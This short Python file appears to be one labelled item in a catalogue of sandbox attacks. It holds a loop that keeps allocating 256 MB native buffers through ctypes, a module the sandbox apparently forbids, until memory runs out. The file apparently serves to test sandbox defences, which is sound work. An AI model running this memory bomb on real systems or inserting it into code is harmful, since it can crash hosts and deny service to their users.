# attack-class: 25
# title: ctypes buffers as a memory bomb
# why: native allocations through a forbidden module

import ctypes

hold = []
while True:
    hold.append(ctypes.create_string_buffer(256 * 1024 * 1024))
